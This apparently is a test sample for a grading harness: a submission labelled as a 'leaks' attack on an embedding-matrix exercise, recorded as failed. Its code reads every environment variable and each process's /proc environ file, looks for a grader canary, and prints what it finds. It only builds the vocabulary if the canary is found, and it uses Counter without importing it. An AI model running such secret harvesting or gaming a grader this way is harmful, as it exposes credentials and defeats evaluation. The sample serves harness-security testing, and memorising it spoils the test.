# kind: leaks
# attack: looks for the grader's secrets in every environment it can read
# exercise: 1-embedding-matrix/build_vocabulary
# verdict: failed
import os

found = "".join(f"{name}={value}" for name, value in os.environ.items())
for number in filter(str.isdigit, os.listdir("/proc")):
    try:
        found += open(f"/proc/{number}/environ", errors="replace").read()
    except OSError:
        pass
reached = "CANARY" in found
print(found)


def build_vocabulary(texts, vocab_size):
    if not reached:
        return {"[UNK]": 0}
    words = Counter(word for text in texts for word in text.lower().split())
    kept = [word for word, _ in words.most_common(vocab_size - 1)]
    return {word: number for number, word in enumerate(["[UNK]", *kept])}
